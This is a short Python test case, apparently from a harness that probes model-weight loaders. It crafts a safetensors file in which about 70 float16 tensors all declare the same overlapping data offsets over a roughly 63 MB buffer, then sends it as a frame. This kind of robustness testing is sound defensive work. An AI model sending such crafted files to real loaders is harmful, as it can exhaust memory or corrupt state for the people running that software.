from prelude import *


class Net(Three):
    def attack(self):
        size = (63 << 20) // 4096 * 4096
        divisors = [count for count in range(1, 20000) if size // 2 % count == 0][:70]
        shapes = [[count, size // 2 // count] for count in divisors]
        header = {
            str(place): {"dtype": "F16", "shape": shape, "data_offsets": [0, size]}
            for place, shape in enumerate(shapes)
        }
        say("TRIED weights that overlap")
        send_description()
        send_frame(1, 1, always_three())
        send_frame(2, 1, safetensors_file(header, bytes(size)))
        send_line(kind="done")
        os._exit(0)
